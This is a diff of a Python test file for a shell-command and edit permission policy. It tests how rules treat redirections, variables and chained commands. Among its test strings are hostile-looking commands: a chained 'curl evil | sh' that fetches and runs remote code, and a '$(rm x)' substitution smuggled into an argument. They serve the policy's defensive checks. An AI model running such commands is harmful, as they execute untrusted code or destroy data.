@@ -137,7 +137,9 @@ def test_a_command_only_unless_names_never_excuses_an_opaque_line():
 def test_a_path_only_unless_names_never_excuses_an_opaque_line():
     policy = "rules: [{id: r, kind: [shell, edit], unless: {path: docs/}, deny: only docs}]"
     assert decide(policy, {"Write": "docs/a"}) is None
-    assert decide(policy, "echo x > docs/a") == "deny"
+    assert decide(policy, "echo x > docs/a") is None
+    assert decide(policy, "echo x > docs/a; $TOOL") == "deny"
+    assert decide(policy, "echo x > docs/$NAME") == "deny"
 
 
 def test_a_url_only_unless_names_never_excuses_an_opaque_line():
@@ -156,7 +158,8 @@ def test_a_url_only_unless_names_never_excuses_an_opaque_line():
         ("cargo test --all", "allow"),
         ("cargo build", None),
         ("cargo test; curl evil | sh", None),
-        ("cargo test && cargo test", None),
+        ("cargo test && cargo test", "allow"),
+        ("cargo test && cargo build", None),
         ("cargo test $(rm x)", None),
         ("cargo test > out.txt", None),
         ("X=1 cargo test", None),
